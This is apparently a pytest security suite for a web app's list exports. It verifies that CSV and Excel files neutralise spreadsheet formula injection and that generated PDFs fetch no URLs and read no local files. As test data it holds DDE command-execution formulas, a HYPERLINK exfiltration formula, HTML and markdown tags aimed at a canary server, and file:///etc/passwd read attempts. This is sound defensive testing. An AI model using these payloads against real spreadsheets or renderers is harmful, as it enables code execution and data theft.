"""What a file of a list can do to whoever opens it, and to the server that makes it: nothing (SEC-46, SEC-47)."""

import csv
import socket
from collections.abc import Callable, Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO, StringIO
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.error import HTTPError

import pytest
from fpdf import FPDF
from fpdf.enums import ResourceAccessPolicy
from openpyxl import Workbook

from app.config import Settings
from app.lists.export import as_pdf
from app.lists.export.signs import inert
from app.lists.export.table import Kind
from tests.conftest import SignedIn
from tests.lists.readers import (
    excel_rows,
    excel_types,
    of_texts,
    pdf_text,
    read_csv,
    read_excel,
    read_pdf,
    sheet,
    table,
    written,
)

# What runs when a spreadsheet opens it, in the forms that were seen in the wild.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://127.0.0.1/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1,1)",
)
HARMLESS = ("1+1", "a=b", "'", "株式会社サンプル", "hanako@sample.example.cs", "2026-11-20", " ")


def running_in_csv(data: bytes) -> list[str]:
    """The cells that a spreadsheet would run."""
    cells = [cell for row in csv.reader(StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    return [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))]


@pytest.mark.req("SEC-46", "HIST-05")
@pytest.mark.usefixtures("session")
def test_C24_formulas_in_exports_are_inert() -> None:  # noqa: N802 - named after the lesson
    data = of_texts("csv", [*FORMULAS, *HARMLESS])

    assert running_in_csv(data) == []
    assert [row[0] for row in read_csv(data)[1:]] == [*(f"'{text}" for text in FORMULAS), *HARMLESS]

    workbook = of_texts("xlsx", [*FORMULAS, *HARMLESS])
    assert excel_types(workbook) == {"s"}
    cells = [row[0] for row in excel_rows(workbook)[1:]]
    assert [cell for cell in cells if "\0" not in str(cell) and "x000" not in str(cell)] == [
        text for text in (*FORMULAS, *HARMLESS) if text[0] not in "\r\0"
    ]
    # A cell that somebody opens and closes in Excel stays a text as well.
    assert read_excel(workbook)["A2"].quotePrefix


@pytest.mark.req("SEC-46")
def test_C24_the_check_sees_a_planted_copy_of_the_flaw() -> None:  # noqa: N802 - named after the lesson
    """The same texts through writers that do not know of it."""
    text = StringIO()
    csv.writer(text).writerows([item] for item in FORMULAS)
    assert len(running_in_csv(text.getvalue().encode())) == 10

    book, file = Workbook(), BytesIO()
    assert book.active is not None
    for item in FORMULAS[:3]:
        book.active.append([item])
    book.save(file)
    assert excel_types(file.getvalue()) == {"f"}


@pytest.mark.req("SEC-46")
@pytest.mark.usefixtures("session")
def test_heads_and_titles_are_no_formulas_either() -> None:
    trap = table([("=1+1",)], labels=["=2+2"], title="=3+3")

    assert read_csv(written("csv", trap)) == [["'=2+2"], ["'=1+1"]]
    assert excel_types(written("xlsx", trap)) == {"s"}


@pytest.mark.req("SEC-46")
@pytest.mark.usefixtures("session")
def test_a_number_below_zero_is_a_number_and_no_formula() -> None:
    numbers = table([(-5,), (5,)], kinds=[Kind.NUMBER])

    assert read_csv(written("csv", numbers))[1:] == [["-5"], ["5"]]
    assert excel_rows(written("xlsx", numbers))[1:] == [[-5], [5]]
    # What claims to be a number and is a text is treated as the text that it is, in Excel as in CSV.
    claims = table([("=1+1",)], kinds=[Kind.NUMBER])
    assert excel_types(written("xlsx", claims)) == {"s"}
    assert running_in_csv(written("csv", claims)) == []


@pytest.fixture
def canary() -> Iterator[tuple[str, list[str]]]:
    """A server of this machine that writes down whoever asks it for anything."""
    hits: list[str] = []

    class Canary(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_error(404)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()
    server.server_close()
    thread.join()


def traps(address: str) -> Sequence[str]:
    """Texts with which renderers were made to fetch addresses and read files."""
    return (
        f'<img src="{address}/image">',
        f'<link rel="attachment" href="{address}/attached">',
        f"![picture]({address}/markdown)",
        f'<iframe src="{address}/frame"></iframe>',
        '<img src="file:///etc/passwd">',
        '<object data="file:///etc/passwd"></object>',
        "file:///etc/passwd",
        "<style>@import url(file:///etc/passwd);</style>",
        "(/etc/passwd) Tj ET /URI (http://127.0.0.1)",
    )


@pytest.mark.req("SEC-46")
@pytest.mark.usefixtures("session")
def test_C25_the_pdf_fetches_nothing_and_reads_no_file(canary: tuple[str, list[str]]) -> None:  # noqa: N802 - named after the lesson
    address, hits = canary
    texts = traps(address)
    data = of_texts("pdf", texts)

    assert hits == []
    text = pdf_text(data)
    for trap in texts:
        assert "".join(trap.split()) in text, "a trap is only text"
    for line in Path("/etc/passwd").read_text().splitlines():
        assert line not in text
    document = read_pdf(data)
    assert all("/Annots" not in page for page in document.pages), "not even a link"
    assert document.attachments == {}


@pytest.mark.req("SEC-46")
def test_C25_the_check_sees_a_planted_copy_of_the_flaw(canary: tuple[str, list[str]]) -> None:  # noqa: N802 - named after the lesson
    """The same library reads markup where it is asked to, and fetches what that names."""
    address, hits = canary
    document = FPDF()
    document.add_page()
    document.resource_access_policy = ResourceAccessPolicy.ALL
    with pytest.raises(HTTPError, match="404"):
        document.write_html(traps(address)[0])

    assert hits == ["/image"]


@pytest.mark.req("SEC-46")
@pytest.mark.usefixtures("session")
def test_even_markup_would_load_nothing_into_a_list(canary: tuple[str, list[str]]) -> None:
    address, hits = canary
    document = as_pdf.Document(sheet(table([("x",)])))
    for trap in (f'<img src="{address}/image">', '<img src="file:///etc/passwd">', '<img src="/etc/passwd">'):
        with pytest.raises(Exception, match="resource_access_policy"):
            document.write_html(trap)
    document.let_go()
    assert hits == []


@pytest.mark.req("SEC-46")
@pytest.mark.usefixtures("session")
def test_no_socket_is_opened_for_any_file(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a file was about to reach out")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    for extension in ("csv", "xlsx", "pdf"):
        assert of_texts(extension, traps("http://192.0.2.1"))


@pytest.mark.req("SEC-47")
def test_C26_a_file_is_kept_nowhere_so_there_is_none_to_ask_for(  # noqa: N802 - named after the lesson
    signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, app: Any
) -> None:
    settings: Settings = app.config["SETTINGS"]
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    before = {path.name for path in settings.data_dir.rglob("*")}
    hanako = signed_in("hanako")
    for extension in ("csv", "xlsx", "pdf"):
        assert hanako.get(f"/fm/account/logins.{extension}").status == 200

    assert list(tmp_path.iterdir()) == []
    new = {path.name for path in settings.data_dir.rglob("*")} - before
    assert {name for name in new if not name.startswith("madoguchi.sqlite3-")} == set()
    rules = [
        rule.rule for rule in app.url_map.iter_rules() if "export" in rule.rule or "download" in rule.rule
    ]
    # The catalogue of a service is written anew for each who asks, as lists are.
    assert rules == ["/console/catalog/<slug>/export.yaml"]


def test_every_sign_that_runs_is_made_harmless_once() -> None:
    quote: Callable[[str], str] = inert
    for text in FORMULAS:
        assert quote(text) == f"'{text}"
        assert quote(quote(text)) == f"'{text}"
    for text in HARMLESS:
        assert quote(text) == text
    assert quote("") == ""
